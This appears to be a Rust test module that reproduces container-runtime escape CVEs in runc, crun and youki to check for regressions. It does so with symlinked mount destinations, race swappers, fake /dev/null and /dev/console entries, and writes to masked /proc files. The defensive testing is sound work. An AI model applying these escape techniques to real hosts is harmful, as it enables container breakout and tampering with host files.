//! Destinations of mounts, devices, masks and the console that the image or a shared volume leads elsewhere.

use crate::harness::{Out, script};
use crate::pty::FdSocket;
use crate::race::{swapper, windows};
use crate::scene::{Control::*, Scene, attack};
use rustix::fs::{CWD, FileType, Mode, makedev, mknodat};
use serde_json::json;
use std::fs;
use std::os::unix::fs::{MetadataExt, chown, symlink};
use std::path::{Path, PathBuf};
use std::sync::Mutex;

/// Races that are left to luck are given this many containers.
const RUNS: usize = 100;

/// The ways to say "the host's directory" in a symbolic link of a rootfs that is in /tmp/A/B/b/rootfs.
fn links_to(dir: &Path) -> [String; 3] {
    let text = dir.display();
    [text.to_string(), format!("../../../../../../../..{text}"), format!("/proc/self/cwd/../../../..{text}")]
}

/// A volume with a directory `a` and a link `a2` to the host's canary, which a hostile neighbour exchanges.
fn shared_volume(s: &Scene) -> (PathBuf, PathBuf) {
    let volume = s.volume("/v");
    let (a, b) = (volume.join("a"), volume.join("a2"));
    fs::create_dir_all(a.join("b")).unwrap();
    symlink(&s.canary.dir, &b).unwrap();
    (a, b)
}

/// A hook in the container's mount namespace writes down which mounts there are, before the root is changed.
fn note_mounts(s: &Scene) -> PathBuf {
    let (hook, noted) = (s.t.dir.join("hook"), s.t.dir.join("mounts"));
    script(&hook, &format!("#!/bin/sh\ncat /proc/self/mountinfo >{}\n", noted.display()));
    s.edit(|c| c["hooks"] = json!({ "createContainer": [{ "path": hook }] }));
    noted
}

/// One container, and whether anything was mounted on the host's directory.
fn mounted_outside(s: &Scene, noted: &Path) -> Option<String> {
    let _ = fs::remove_file(noted);
    s.run("true");
    let canary = s.canary.dir.display().to_string();
    let mounts = fs::read_to_string(noted).unwrap_or_default();
    mounts
        .lines()
        .find(|l| l.split(' ').nth(4).is_some_and(|point| point.starts_with(&canary)))
        .map(|l| format!("a mount on the host's directory: {l}"))
}

#[test]
fn cve_2021_30465_mount_destination_swapped() {
    attack("CVE-2021-30465", "a mount's destination is exchanged for a link", &[Weak("string")], |s| {
        let (a, b) = shared_volume(s);
        s.t.add_mount(json!({ "destination": "/v/a/b", "type": "tmpfs", "source": "x" }));
        let noted = note_mounts(s);
        windows(s, (&a, &b), |s| mounted_outside(s, &noted))
            .or_else(|| {
                s.without_dev();
                windows(s, (&a, &b), |s| mounted_outside(s, &noted))
            })
            .or_else(|| swapper(s, (&a, &b), RUNS, |s| mounted_outside(s, &noted)))
    });
}

#[test]
fn cve_2024_45310_missing_destination_swapped() {
    attack(
        "CVE-2024-45310",
        "the missing parts of a destination are made behind a link",
        &[Runc, Weak("join")],
        |s| {
            let (a, b) = shared_volume(s);
            let source = s.t.dir.join("source");
            fs::create_dir(&source).unwrap();
            s.bind(&source, "/v/a/x/y/z");
            s.bind(Path::new("/etc/hostname"), "/v/a/w/file");
            let go = |s: &Scene| {
                for made in [a.join("x"), a.join("w"), b.join("x"), b.join("w")] {
                    // Not through the link: what is in the host's directory is the evidence.
                    if !made.parent().unwrap().is_symlink() {
                        let _ = fs::remove_dir_all(made);
                    }
                }
                s.run("true");
                s.canary.changed()
            };
            windows(s, (&a, &b), go).or_else(|| swapper(s, (&a, &b), RUNS, go))
        },
    );
}

#[test]
fn cve_2019_18837_links_of_the_image() {
    attack(
        "CVE-2019-18837",
        "destinations, devices, masks and directories behind links of the image",
        &[Weak("join")],
        |s| {
            fs::create_dir(s.t.rootfs.join("evil")).unwrap();
            let mut names = Vec::new();
            for (i, target) in links_to(&s.canary.dir).into_iter().enumerate() {
                let name = format!("evil/link{i}");
                symlink(target, s.t.rootfs.join(&name)).unwrap();
                names.push(format!("/{name}"));
            }
            let base = s.t.config();
            for name in names {
                // Each alone, as one that fails ends the container.
                for mount in [
                    json!({ "destination": format!("{name}/dir"), "type": "tmpfs", "source": "x" }),
                    json!({ "destination": format!("{name}/b/deep/er"), "type": "tmpfs", "source": "x" }),
                    json!({ "destination": format!("{name}/file"), "source": "/etc/hostname", "options": ["bind"] }),
                ] {
                    s.t.write(&base);
                    s.t.add_mount(mount);
                    s.run("true");
                }
                s.t.write(&base);
                s.edit(|c| {
                    c["process"]["cwd"] = json!(format!("{name}/cwd"));
                    c["linux"]["maskedPaths"] = json!([format!("{name}/victim")]);
                    c["linux"]["readonlyPaths"] = json!([name]);
                    c["linux"]["devices"] =
                        json!([{ "path": format!("{name}/device"), "type": "c", "major": 1, "minor": 3 }]);
                });
                s.run("true");
                if let Some(what) = s.canary.changed() {
                    return Some(what);
                }
            }
            None
        },
    );
}

/// runc's CVE and crun's CVE-2026-47766: /dev of the image is a symbolic link, and nothing is mounted on it.
#[test]
fn cve_2026_41579_dev_is_a_link() {
    attack(
        "CVE-2026-41579",
        "/dev of the image is a link to the host (crun: CVE-2026-47766)",
        &[Runc, Crun, Weak("join")],
        |s| {
            let dev = s.t.rootfs.join("dev");
            fs::remove_dir_all(&dev).unwrap();
            let plain = s.without_dev().t.config();
            for map_users in [false, true] {
                for target in links_to(&s.canary.dir) {
                    s.t.write(&plain);
                    if map_users {
                        s.t.map_users();
                    }
                    symlink(target, &dev).unwrap();
                    s.run("true");
                    // A tmpfs on /dev must come to lie inside, wherever the link leads.
                    s.t.add_mount(json!({ "destination": "/dev", "type": "tmpfs", "source": "x" }));
                    s.run("true");
                    if dev.is_symlink() {
                        fs::remove_file(&dev).unwrap();
                    } else {
                        fs::remove_dir_all(&dev).unwrap();
                    }
                    if let Some(what) = s.canary.changed() {
                        return Some(what);
                    }
                }
            }
            None
        },
    );
}

/// The same with the link led to a volume: inside of the root for the kernel, and still the host's directory.
#[test]
fn residual_dev_is_a_link_to_a_volume() {
    attack("residual: /dev on a volume", "/dev of the image is a link to a volume", &[Weak("own")], |s| {
        let dev = s.t.rootfs.join("dev");
        fs::remove_dir_all(&dev).unwrap();
        symlink("/vol", &dev).unwrap();
        s.without_dev();
        let canary = s.canary.dir.clone();
        s.bind(&canary, "/vol");
        s.edit(|c| {
            c["linux"]["devices"] = json!([{ "path": "/dev/own", "type": "c", "major": 1, "minor": 3 }])
        });
        s.run("true");
        s.canary.changed()
    });
}

/// What stands in a volume where a mount point is to be is not cut short.
#[test]
fn residual_mount_point_in_a_volume() {
    attack(
        "residual: mount point in a volume",
        "a file of a volume is to be a mount point",
        &[Weak("truncate")],
        |s| {
            let canary = s.canary.dir.clone();
            s.bind(&canary, "/vol");
            s.bind(Path::new("/etc/hostname"), "/vol/victim");
            s.run("true");
            s.canary.changed()
        },
    );
}

/// What the image has in the place of /dev/null.
fn put(at: &Path, what: &str) {
    match what {
        "link" => symlink("/proc/sys/kernel/domainname", at).unwrap(),
        "file" => fs::write(at, "not empty").unwrap(),
        "zero" => {
            mknodat(CWD, at, FileType::CharacterDevice, Mode::from_raw_mode(0o666), makedev(1, 5)).unwrap()
        }
        "fifo" => mknodat(CWD, at, FileType::Fifo, Mode::from_raw_mode(0o666), 0).unwrap(),
        "null" => {
            mknodat(CWD, at, FileType::CharacterDevice, Mode::from_raw_mode(0o666), makedev(1, 3)).unwrap()
        }
        _ => {}
    }
}

/// A masked file must be empty and swallow what is written; domainname stands for core_pattern, as it is the
/// container's own.
fn mask_leaks(s: &Scene) -> Option<String> {
    let out = s.run(
        "dd if=/proc/keys of=/tmp/read bs=64 count=1 2>/dev/null; \
         echo hacked 2>/dev/null >/proc/keys; \
         echo ran; cat /proc/sys/kernel/domainname; wc -c </tmp/read",
    );
    let text = out.stdout();
    let lines: Vec<_> = text.lines().collect();
    match lines[..] {
        ["ran", _, "0"] => None,
        ["ran", "hacked", _] => Some("a write to a masked file reached a kernel parameter".into()),
        ["ran", ..] => Some("a masked file can be read".into()),
        _ => None,
    }
}

/// runc's CVE, and youki's CVE-2025-62161: the mask is what the container has at /dev/null.
#[test]
fn cve_2025_31133_mask_from_the_containers_null() {
    attack(
        "CVE-2025-31133",
        "the mask is what the image has at /dev/null (youki: CVE-2025-62161)",
        &[Runc, Weak("mask")],
        |s| {
            s.without_dev();
            s.edit(|c| c["linux"]["readonlyPaths"] = json!([]));
            let null = s.t.rootfs.join("dev/null");
            for what in ["link", "absent", "file", "zero", "fifo"] {
                put(&null, what);
                let leaks = mask_leaks(s);
                s.end();
                let _ = fs::remove_file(&null);
                if leaks.is_some() {
                    return leaks;
                }
            }
            let other = s.t.rootfs.join("dev/other");
            put(&null, "null");
            put(&other, "link");
            windows(s, (&null, &other), mask_leaks).or_else(|| swapper(s, (&null, &other), RUNS, mask_leaks))
        },
    );
}

/// A detached container with a terminal; what it finds at /dev/console, if it runs.
fn console(s: &Scene) -> Option<String> {
    let found = s.t.rootfs.join("found");
    let _ = fs::remove_file(&found);
    let socket = FdSocket::bind(&s.t.dir.join("tty"));
    s.t.sh(
        "grep ' /dev/console ' /proc/self/mountinfo >/found; stat -c %t /dev/console >>/found; exec sleep 60",
    );
    let socket_path = socket.path.to_str().unwrap().to_owned();
    let out = s.t.bundle_command("run", &["--detach", "--console-socket", &socket_path]).go();
    let evidence = (out.code == Some(0)).then(|| {
        crate::harness::wait_for("the container", crate::harness::SECONDS_5, || {
            let text = fs::read_to_string(&found).ok()?;
            text.lines().last().filter(|l| !l.contains(' ')).map(|_| text.clone())
        })
    });
    fs::remove_file(&socket.path).unwrap();
    // 0x88 is 136, a slave of a pseudo-terminal.
    evidence
        .filter(|text| text.contains(" / /dev/console") || text.trim().lines().last() != Some("88"))
        .map(|text| format!("/dev/console is {}", text.trim().replace('\n', " ")))
}

#[test]
fn cve_2025_52565_console_led_elsewhere() {
    attack(
        "CVE-2025-52565",
        "/dev/console or /dev/pts/N is a link or becomes one",
        &[Runc, Weak("console")],
        |s| {
            s.without_dev();
            s.edit(|c| {
                c["process"]["terminal"] = json!(true);
                c["linux"]["readonlyPaths"] = json!([]);
                c["linux"]["maskedPaths"] = json!([]);
                c["linux"].as_object_mut().unwrap().remove("resources");
                c["mounts"]
                    .as_array_mut()
                    .unwrap()
                    .push(json!({ "destination": "/dev/pts", "type": "devpts",
                "source": "devpts", "options": ["newinstance", "ptmxmode=0666", "mode=0620"] }));
            });
            let dev = s.t.rootfs.join("dev");
            // The target.
            for target in links_to(&s.canary.dir.join("console"))
                .iter()
                .map(String::as_str)
                .chain(["/proc/sys/kernel/domainname"])
            {
                symlink(target, dev.join("console")).unwrap();
                let evidence = console(s).or_else(|| s.canary.changed());
                s.end();
                fs::remove_file(dev.join("console")).unwrap();
                if evidence.is_some() {
                    return evidence;
                }
            }
            // The source.
            let (pts, fake) = (dev.join("pts"), dev.join("pts2"));
            fs::create_dir(&fake).unwrap();
            for n in 0..10 {
                symlink("/proc/sys/kernel/domainname", fake.join(n.to_string())).unwrap();
            }
            windows(s, (&pts, &fake), console)
        },
    );
}

/// A container with standard streams on /dev/null and another user, so that a runtime which changes their owner does.
fn with_null_streams(s: &Scene) -> Out {
    s.edit(|c| c["process"]["user"] = json!({ "uid": 1000, "gid": 1000 }));
    s.t.sh("true");
    // Some give away the host's own (runc #3674, Debian's crun): one after the other, and it is taken back.
    static TURN: Mutex<()> = Mutex::new(());
    let _turn = TURN.lock().unwrap_or_else(std::sync::PoisonError::into_inner);
    let owner = || fs::metadata("/dev/null").map(|m| (m.uid(), m.gid())).unwrap();
    let before = owner();
    let out = s.t.bundle_command("run", &[]).through("exec \"$@\" </dev/null >/dev/null 2>&1").go();
    if owner() != before {
        chown("/dev/null", Some(before.0), Some(before.1)).unwrap();
        assert!(s.control.is_some(), "the host's /dev/null was given away");
    }
    out
}

/// crun's: the standard streams become what the image has at /dev/null, and get another owner.
#[test]
fn cve_2026_88265_null_is_a_link() {
    attack(
        "CVE-2026-88265",
        "standard streams become a link of the image at /dev/null, and get an owner",
        &[Crun, Weak("null")],
        |s| {
            s.without_dev();
            let null = s.t.rootfs.join("dev/null");
            for target in links_to(&s.canary.victim()) {
                symlink(target, &null).unwrap();
                with_null_streams(s);
                fs::remove_file(&null).unwrap();
                if let Some(what) = s.canary.changed() {
                    return Some(what);
                }
            }
            None
        },
    );
}

/// crun's: /dev/console is made through a link.
#[test]
fn cve_2026_88264_console_is_a_link() {
    attack("CVE-2026-88264", "/dev/console is made through a link", &[Crun, Weak("console")], |s| {
        s.without_dev();
        let console = s.t.rootfs.join("dev/console");
        for target in links_to(&s.canary.dir.join("new")) {
            symlink(target, &console).unwrap();
            s.run("true");
            fs::remove_file(&console).unwrap();
            if let Some(what) = s.canary.changed() {
                return Some(what);
            }
        }
        None
    });
}

/// The class of the two: every name that a runtime makes in /dev is one of the image's, of every kind.
#[test]
fn residual_every_name_in_dev() {
    attack(
        "residual: every name in /dev",
        "sixteen names in /dev, each as eight kinds of file",
        &[Weak("null")],
        |s| {
            s.without_dev();
            let victim = s.canary.victim();
            let before = s.t.rootfs.join("dev");
            for name in [
                "null", "console", "ptmx", "tty", "zero", "full", "random", "urandom", "fd", "stdin",
                "stdout", "stderr", "core", "pts", "shm", "mqueue",
            ] {
                let at = before.join(name);
                // Also what an earlier container has put there.
                let _ = fs::remove_file(&at).or_else(|_| fs::remove_dir_all(&at));
                for kind in ["absolute", "relative", "directory", "loop", "file", "fifo", "socket", "block"] {
                    match kind {
                        "absolute" => symlink(&victim, &at).unwrap(),
                        "relative" => symlink(links_to(&victim)[1].as_str(), &at).unwrap(),
                        "directory" => symlink(&s.canary.dir, &at).unwrap(),
                        "loop" => symlink(name, &at).unwrap(),
                        "file" => fs::write(&at, "").unwrap(),
                        "fifo" => put(&at, "fifo"),
                        "socket" => drop(std::os::unix::net::UnixListener::bind(&at).unwrap()),
                        _ => mknodat(
                            CWD,
                            &at,
                            FileType::BlockDevice,
                            Mode::from_raw_mode(0o666),
                            makedev(1, 3),
                        )
                        .unwrap(),
                    }
                    with_null_streams(s);
                    s.end();
                    let _ = fs::remove_file(&at).or_else(|_| fs::remove_dir_all(&at));
                    if let Some(what) = s.canary.changed() {
                        return Some(format!("{name}, {kind}: {what}"));
                    }
                }
            }
            None
        },
    );
}

/// crun's krun handler wrote a file of its own into the rootfs, and through a link of the image.
#[test]
fn cve_2025_24965_files_of_the_runtimes_in_the_rootfs() {
    attack(
        "CVE-2025-24965",
        "the runtime writes a file of its own into the rootfs",
        &[Weak("rootfsfile")],
        |s| {
            for name in [".krun_config.json", "config.json", "state.json", ".rrun.json"] {
                symlink(s.canary.victim(), s.t.rootfs.join(name)).unwrap();
            }
            s.run("true");
            let before = s.t.rootfs_listing();
            s.run("true");
            (s.t.rootfs_listing() != before)
                .then(|| "the rootfs was changed".to_owned())
                .or_else(|| s.canary.changed())
        },
    );
}
